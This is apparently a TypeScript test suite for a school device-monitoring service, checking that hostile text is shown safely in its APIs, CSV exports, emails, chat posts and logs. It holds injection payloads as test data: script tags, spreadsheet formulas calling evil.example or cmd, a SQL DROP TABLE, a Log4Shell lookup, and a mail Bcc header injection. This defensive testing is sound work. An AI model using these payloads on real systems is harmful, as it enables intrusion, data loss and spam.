import { readdirSync, readFileSync } from 'node:fs';
import { asks, aChannel } from './support/channels.js';
import { aDevice, Device, send } from './support/device.js';
import { eventually } from './support/eventually.js';
import { Mail, MailServer, part } from './support/mail-server.js';
import { SENDING } from './support/outbox.js';
import { expectRefused } from './support/problems.js';
import { Receiver } from './support/receiver.js';
import { SpawnedService, spawnService } from './support/service.js';
import { TestDatabase } from './support/test-database.js';

/** Texts that are legal everywhere, and would each do harm in one of the places where they are shown. */
const CANARIES = {
  'a script': '<script>alert(1)</script>',
  'an attribute': `"><img src=x onerror=alert(1)>' onload='alert(1)`,
  'a formula': '=HYPERLINK("http://evil.example","Open")',
  'a formula with a plus': '+1+cmd|" /C calc"!A0',
  'a formula with a minus': '-1+1',
  'a formula with an at': '@SUM(1,1)',
  'a formula in full width': '＝1+1',
  'a mention': '<!channel> @everyone @here',
  'a link': '[Go](http://evil.example) <http://e.example|Go>',
  'a turned direction': 'gpj.\u202Eexe\u2066\u200F',
  'a line of its own': 'ok\u2028Device all is well\u2029ok',
  'an end of a statement': `x'); DROP TABLE devices; -- \\' \\x00 %' OR 1=1`,
  'a pattern': '${jndi:ldap://evil.example} {{7*7}} %s %n $(id)',
};

/** Texts that nobody may send, whatever the field. */
const REFUSED = {
  'a mail header': 'x\r\nBcc: all@evil.example',
  'a line break': 'a\nb',
  'a tab': 'a\tb',
  'a terminal escape': '\u001b[2J\u001b]0;owned\u0007',
  'a C1 escape': '\u009b31m',
  'a NUL': 'a\u0000b',
  'half a character': 'a\ud800b',
};

const UNPRINTABLE = /[\u0000-\u001f\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069]/;

let database: TestDatabase;
let mailServer: MailServer;
let receiver: Receiver;
let service: SpawnedService;

beforeAll(async () => {
  [database, mailServer, receiver] = await Promise.all([
    TestDatabase.create(),
    MailServer.start(),
    Receiver.start(),
  ]);
  service = await spawnService(database.url, {
    ...SENDING,
    SMTP_URL: mailServer.url(),
    ALERT_DIGEST_OVER: '0',
    LOG_LEVEL: 'debug',
  });
  await aChannel(service, { kind: 'slack', url: receiver.url() });
  await aChannel(service, { kind: 'webhook', url: receiver.url() });
  await aChannel(service, { kind: 'email', recipients: ['field-team@school.example'] });
});

afterAll(async () => {
  await service.kill();
  await Promise.all([mailServer.stop(), receiver.stop()]);
  await database.drop();
});

/** A device that has the canary in every field that somebody may choose, and fails three times. */
async function aCarrier(canary: string): Promise<Device> {
  const device = aDevice(service);
  const failure = { errorMessage: canary };
  await device.reports('ok', { eventId: canary });
  const { status } = await asks(service, 'PATCH', `/devices/${device.id}`, {
    name: canary,
    site: canary,
    labels: [canary],
  });
  expect(status).toBe(200);
  for (let times = 0; times < 3; times += 1)
    expect((await device.reports('failed', failure)).status).toBe(201);
  return device;
}

const mailOf = ({ id }: Device): Mail | undefined =>
  mailServer.mails.find((mail) => part(mail.raw, 'text/plain').includes(id));

const postsOf = ({ id }: Device): string[] =>
  receiver.received.map(({ body }) => body).filter((body) => body.includes(id));

const linesOf = ({ id }: Device): string[] => service.lines.filter((line) => line.includes(id));

describe.each(Object.entries(CANARIES))('%s', (_, canary) => {
  let device: Device;

  beforeAll(async () => {
    device = await aCarrier(canary);
    await eventually('all channels are told', () =>
      Promise.resolve(
        mailOf(device) !== undefined && postsOf(device).length === 2 && linesOf(device).length > 0,
      ),
    );
  });

  it('is kept as it is, and answered as JSON that no browser runs', async () => {
    for (const path of [`/devices/${device.id}`, `/device/${device.id}/sync-history`, '/alerts', '/audit']) {
      const answer = await send(`${service.url}/api${path}`);
      expect([path, answer.status, answer.headers.get('content-type')]).toEqual([
        path,
        200,
        'application/json; charset=utf-8',
      ]);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      expect(answer.headers.get('content-security-policy')).toMatch(/^default-src 'none'/);
      expect(JSON.stringify(answer.body)).toContain(JSON.stringify(canary).slice(1, -1));
    }
  });

  it('is no formula in a cell of the CSV, and makes no cell of its own', async () => {
    const { body } = await send<string>(`${service.url}/api/device/${device.id}/sync-history?format=csv`);
    const [header, ...rows] = cells(body);
    expect(rows).toHaveLength(4);
    for (const row of rows) {
      expect(row).toHaveLength(header.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
    const column = header.indexOf('error_message');
    for (const row of rows.slice(0, 3)) expect(row[column].replace(/^'/, '')).toBe(canary);
  });

  it('is text in a mail, and adds neither header nor recipient nor tag', () => {
    const mail = mailOf(device)!;
    expect([...mail.headers.keys()].sort()).toEqual([...mailServer.mails[0].headers.keys()].sort());
    expect(mail.to).toEqual(['field-team@school.example']);
    const html = part(mail.raw, 'text/html');
    const tags = new Set([...html.matchAll(/<\/?([a-z!]+)/gi)].map(([, name]) => name.toLowerCase()));
    expect([...tags].sort()).toEqual([
      '!doctype',
      'a',
      'body',
      'html',
      'p',
      'strong',
      'table',
      'td',
      'th',
      'tr',
    ]);
    for (const [, href] of html.matchAll(/href="([^"]*)"/g))
      expect(href).toMatch(/^https:\/\/pisync\.school\.example\//);
  });

  it('mentions nobody in a chat, and is no link there', () => {
    const payload = postsOf(device)
      .map((body) => JSON.parse(body) as { text?: string })
      .find(({ text }) => text)!;
    expect(payload.text).not.toMatch(/[<>]|@(?:everyone|here|channel|all)|\]\(/);
  });

  it('is one line of the log, of its own, that moves no cursor', () => {
    for (const line of linesOf(device)) {
      expect(line).not.toMatch(UNPRINTABLE);
      expect(JSON.parse(line)).toMatchObject({ level: expect.any(String) as string });
      expect((JSON.parse(line) as { msg: string }).msg).not.toMatch(UNPRINTABLE);
    }
  });
});

describe.each(Object.entries(REFUSED))('%s', (_, canary) => {
  it('is refused in every text that a device sends', async () => {
    const device = aDevice(service);
    const event = device.event('failed');
    for (const field of ['device_id', 'event_id', 'error_message'])
      expectRefused(await device.posts({ ...event, [field]: canary }), field);
  });

  it.each<[string, 'POST' | 'PATCH', string, string, (text: string) => object]>([
    ['the name of a device', 'PATCH', '/devices/PIBOX-7', 'name', (name) => ({ name })],
    ['its site', 'PATCH', '/devices/PIBOX-7', 'site', (site) => ({ site })],
    ['its labels', 'PATCH', '/devices/PIBOX-7', 'labels', (label) => ({ labels: [label] })],
    ['who acknowledges', 'POST', '/alerts/1/acknowledge', 'by', (by) => ({ by })],
    ['a note', 'POST', '/alerts/1/acknowledge', 'note', (note) => ({ by: 'x', note })],
    ['the name of a key', 'POST', '/keys', 'name', (name) => ({ name, role: 'viewer' })],
    ['its site', 'POST', '/keys', 'site', (site) => ({ name: 'x', role: 'fleet', site })],
    ['the name of a device that enrols', 'POST', '/enroll', 'name', (name) => ({ device_id: 'x', name })],
    ['its id', 'POST', '/enroll', 'device_id', (device_id) => ({ device_id })],
    ['the name of a channel', 'PATCH', '/channels/1', 'name', (name) => ({ name })],
    ['its sites', 'PATCH', '/channels/1', 'sites', (site) => ({ sites: [site] })],
    ['its URL', 'PATCH', '/channels/2', 'url', (url) => ({ url: `https://x.example/${url}` })],
    ['its recipients', 'PATCH', '/channels/4', 'recipients', (to) => ({ recipients: [`${to}@x.example`] })],
  ])('is refused as %s', async (_field, method, path, field, body) => {
    expectRefused(await asks(service, method, path, body(canary)), field);
  });
});

describe('The sources', () => {
  it('put no text into SQL: every value of a statement is a parameter', () => {
    const sources = readdirSync('src', { recursive: true, encoding: 'utf8' }).filter(
      (file) => file.endsWith('.ts') && !file.startsWith('generated'),
    );
    expect(sources.length).toBeGreaterThan(100);
    for (const file of sources)
      expect([file, readFileSync(`src/${file}`, 'utf8')]).toEqual([
        file,
        expect.not.stringMatching(/RawUnsafe|Prisma\.raw\b|\braw\(/),
      ]);
  });
});

/** RFC 4180, read without the code that wrote it. */
function cells(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.filter((row) => row.length > 1);
}
